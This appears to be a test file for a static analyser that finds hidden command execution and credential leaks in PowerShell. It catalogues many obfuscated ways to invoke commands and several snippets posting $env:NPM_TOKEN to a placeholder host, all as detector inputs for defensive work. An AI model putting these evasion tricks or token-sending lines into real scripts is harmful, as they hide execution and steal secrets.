import { beforeAll, expect, test } from "vitest";
import type { CodeContext } from "../../../../src/review/code/run.ts";
import {
  described,
  factsOf,
  isCapability,
  isFlow,
  loadContext,
} from "../../../conformance/harness.ts";

let context: CodeContext;
beforeAll(async () => {
  context = await loadContext();
});

test.each([
  ["backticks in a name", "i`E`x 'id'"],
  ["typographic quotes", "iex \u2018id\u2019"],
  ["a name of parts in a format", `& ("{1}{0}" -f "ex","i") 'id'`],
  [
    "letters out of a variable of the system",
    `& ($env:ComSpec[4,15,25] -join ''); . ('i' + 'EX') 'id'`,
  ],
  ["a call operator on a dotted string", `.("{0}e{1}" -f 'i','x') "id"`],
  ["a method named by a string", `$ExecutionContext."InvokeCommand"."InvokeScript"('id')`],
  ["a pipe on the next line", `'id' \`\n | iex`],
  ["a line that begins with a pipe", `'id'\n  | iex`],
  ["a script block that is invoked", `{ id }.Invoke()`],
  ["a block of a job", `Start-Job -ScriptBlock { id }`],
  ["a splatted table", `$p = @{ Command = 'id' }\nInvoke-Expression @p`],
  ["a shortened parameter", `Invoke-Expression -Comm 'id'`],
  ["a name with a module", `Microsoft.PowerShell.Utility\\Invoke-Expression 'id'`],
  ["a switch in one line", `switch ($x) { "a" { id } default { 1 } }`],
  ["a function in one line", `function A { param($c) iex $c }; A 'id'`],
  ["a here-string", `iex @'\nid\n'@`],
  ["an attribute that checks a parameter", `function A { param([ValidateScript({ id })]$x) }; A 1`],
  ["a trap", `trap { id }\nthrow "x"`],
  ["a value behind two signs", `$true && id`],
  ["a replacement without letters", `iex ('i~~d' -replace '~')`],
  ["a reversed range", `iex ("di"[1..0] -join "")`],
  ["an assembled text", `iex ([string]::Join('', @('i', 'd')))`],
  ["codes of letters in a list", `iex ([char]105 + [char]0x64)`],
  ["a text that is split and cast", `iex (('105!100' -split '!' | % { [char][int]$_ }) -join '')`],
  ["the shell of scripting", `(New-Object -ComObject WScript.Shell).Run('id')`],
  ["a process of .NET", `[System.Diagnostics.Process]::Start('id')`],
])("%s hides nothing", (_, text) => {
  const facts = factsOf("powershell", text, context);
  const runs = { capability: "execute.process" as const, target: "id" };
  expect(
    facts.some((fact) => isCapability(fact, runs)),
    described(facts).join("\n"),
  ).toBe(true);
});

test("arguments by name and by place go to the parameters they are for", () => {
  for (const text of [
    `function S { param($To, $What) irm $To -Method Post -Body $What }\nS -What $env:NPM_TOKEN https://h.example`,
    `function S($To, $What) { irm $To -Method Post -Body $What }\nS https://h.example $env:NPM_TOKEN`,
    `$p = @{ Uri = 'https://h.example'; Body = $env:NPM_TOKEN }\nInvoke-RestMethod @p`,
    `function S { param([Parameter(ValueFromPipeline)]$What) process { irm https://h.example -Method Post -Body $What } }\n$env:NPM_TOKEN | S`,
    `$c = New-Object Net.WebClient\n$c.UploadString('https://h.example', $env:NPM_TOKEN)`,
  ]) {
    const facts = factsOf("powershell", text, context);
    const flow = {
      from: "read.credential" as const,
      to: "network.send" as const,
      source: "NPM_TOKEN",
      destination: "https://h.example",
    };
    expect(
      facts.some((fact) => isFlow(fact, flow)),
      `${text}\n${described(facts).join("\n")}`,
    ).toBe(true);
  }
});

test("a value that is assigned in a function stays there, one of a block of a pipeline does not", () => {
  const facts = factsOf(
    "powershell",
    `$c = 'true'\nfunction F { $c = 'id' }\nF\n& $c\n1 | % { $d = 'whoami' }\n& $d`,
    context,
  );
  expect(
    facts.some((fact) => isCapability(fact, { capability: "execute.process", target: "whoami" })),
  ).toBe(true);
  expect(
    facts.some((fact) => isCapability(fact, { capability: "execute.process", target: "id" })),
  ).toBe(false);
});
